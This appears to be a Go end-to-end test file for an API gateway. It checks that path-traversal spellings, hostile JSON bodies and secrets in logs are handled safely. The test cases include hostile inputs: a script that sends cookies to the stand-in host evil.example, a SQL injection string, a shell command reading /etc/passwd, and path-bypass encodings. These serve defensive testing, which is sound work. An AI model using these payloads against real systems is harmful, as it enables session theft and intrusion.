package e2e

import (
	"bufio"
	"crypto/tls"
	"io"
	"net/http"
	"strings"
	"testing"
)

// TestPathSpellings sends the spellings by which other gateways were bypassed,
// as raw bytes. None reaches the backend as anything but what was decided on.
func TestPathSpellings(t *testing.T) {
	t.Parallel()
	s := edge(t)
	bearer := s.as("g-7", "e2e")
	spellings := map[string]int{
		"/e2e/echo": 200, "/e2e/%65cho": 200, // one decoding, one path
		"//e2e/echo": 400, "/x/../e2e/echo": 400, "/x/%2e%2e/e2e/echo": 400, "/x/..%2fe2e/echo": 400, "/e2e/echo%2f": 400, "/..;/e2e/echo": 400, "/e2e/echo;x=1": 400,
		`/x\..\e2e/echo`: 400, "/e2e/echo%00": 400, "/e2e/echo%20": 400, "/e2e/echo%23": 400, "/./e2e/echo": 400, "/e2e/echo%252f": 400, "/x%5c..%5ce2e/echo": 400,
		"/e2e/echo#frag": 400, "/%c0%aee2e/echo": 400, "/e2e/echo?a=1;b=2": 400, "/e2e/echo?a=%zz": 400, "/E2E/echo": 404,
	}
	for target, want := range spellings {
		status, body := s.raw("GET " + target + " HTTP/1.1\r\nHost: " + host(s.gatewayURL) + "\r\nAuthorization: Bearer " + bearer + "\r\n\r\n")
		if status != want {
			t.Errorf("%q: %d, want %d: %s", target, status, want, body)
		}
		if status == 200 && !strings.Contains(body, `"URI":"/e2e/echo"`) {
			t.Errorf("%q: the backend sees %s", target, body)
		}
	}
}

// raw sends bytes over TLS and HTTP/1.1 as they are.
func (s *system) raw(request string) (int, string) {
	s.t.Helper()
	conn, err := tls.Dial("tcp", host(s.gatewayURL), &tls.Config{RootCAs: s.pool, NextProtos: []string{"http/1.1"}})
	if err != nil {
		s.t.Fatal(err)
	}
	defer conn.Close()
	if _, err := io.WriteString(conn, request); err != nil {
		s.t.Fatal(err)
	}
	res, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		s.t.Fatalf("%q: %v", request, err)
	}
	defer res.Body.Close()
	body, err := io.ReadAll(res.Body)
	if err != nil {
		s.t.Fatal(err)
	}
	return res.StatusCode, string(body)
}

func TestHostileBodiesAreRefusedAndPlainOnesArrive(t *testing.T) {
	t.Parallel()
	s := edge(t)
	bearer := s.as("g-7", "e2e")
	cases := []struct {
		name, body string
		wantStatus int
		wantCode   string
	}{
		{"a plain note passes", `{"note":"Late arrival, about 22:30. Two pillows, please."}`, 200, ""},
		{"a script in a JSON member is 403", `{"note":"<script>document.location='http://evil.example/?'+document.cookie</script>"}`, 403, "waf_denied"},
		{"SQL injection in a JSON member is 403", `{"note":"1' UNION SELECT password FROM users-- "}`, 403, "waf_denied"},
		{"a shell command in a JSON member is 403", `{"note":"; cat /etc/passwd"}`, 403, "waf_denied"},
		{"broken JSON is 400", `{"note":`, 400, "bad_request"},
		{"a nest of 30 arrays is 400", strings.Repeat("[", 30) + strings.Repeat("]", 30), 400, "bad_request"},
		{"a body over the bound is 413", `{"note":"` + strings.Repeat("a", 65<<10) + `"}`, 413, "body_too_large"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			a := s.send("POST", "/e2e/echo", bearer, c.body)
			if a.status != c.wantStatus || a.code() != c.wantCode {
				t.Errorf("got %d %q, want %d %q: %.200s", a.status, a.code(), c.wantStatus, c.wantCode, a.body)
			}
			if a.status == 200 {
				var got seen
				if err := decode(strings.NewReader(a.body), &got); err != nil || got.Body != c.body {
					t.Errorf("the backend got %q, %v", got.Body, err)
				}
			}
		})
	}
}

// TestNoSecretIsEverWritten searches everything the gateway and the token
// service write for the secrets they were sent.
func TestNoSecretIsEverWritten(t *testing.T) {
	t.Parallel()
	s := edge(t)
	const canary = "CANARY-4711-secret"
	bearer := s.as("g-7", "e2e")
	for _, r := range []string{
		"GET /e2e/echo?token=" + canary + " HTTP/1.1\r\nAuthorization: Bearer " + bearer + "\r\nCookie: session=" + canary + "\r\n",
		"GET /e2e/echo HTTP/1.1\r\nAuthorization: Bearer " + canary + "\r\n",
		"GET /e2e/echo HTTP/1.1\r\nAuthorization: Basic " + canary + "\r\n",
		"GET /slow/" + canary + "%20" + " HTTP/1.1\r\nX-Api-Key: " + canary + "\r\n",
	} {
		first, rest, _ := strings.Cut(r, "\r\n")
		s.raw(first + "\r\nHost: " + host(s.gatewayURL) + "\r\n" + rest + "\r\n")
	}
	if a := s.send("POST", "/e2e/echo", bearer, `{"password":"`+canary+`","x":"<script>alert(1)</script>"}`); a.status != 403 {
		t.Fatalf("the hostile body got %d", a.status)
	}
	a := s.send("GET", "/e2e/echo", bearer, "")
	s.event(a.header.Get("X-Request-Id")) // the last event is out
	var written strings.Builder
	for _, e := range s.lines(s.eventLog()) {
		delete(e, "url.path") // a path is not a place for secrets, and is logged
		text, err := encode(e)
		if err != nil {
			t.Fatal(err)
		}
		written.Write(text)
	}
	written.WriteString(s.gateway.said() + s.auth.said())
	signature := bearer[strings.LastIndexByte(bearer, '.')+1:]
	for _, secret := range []string{canary, signature} {
		if strings.Contains(written.String(), secret) {
			t.Errorf("%q was written: %s", secret, written.String())
		}
	}
}

// TestBrowsersGetAPage: a refusal is a page where Accept asks for one.
func TestBrowsersGetAPage(t *testing.T) {
	t.Parallel()
	s := edge(t)
	status, body := s.raw("GET /v1/hotels HTTP/1.1\r\nHost: " + host(s.gatewayURL) + "\r\nAccept: text/html,application/xhtml+xml;q=0.9,*/*;q=0.8\r\n\r\n")
	if status != 401 || !strings.HasPrefix(body, "<!doctype html>") {
		t.Errorf("%d %.100s", status, body)
	}
}
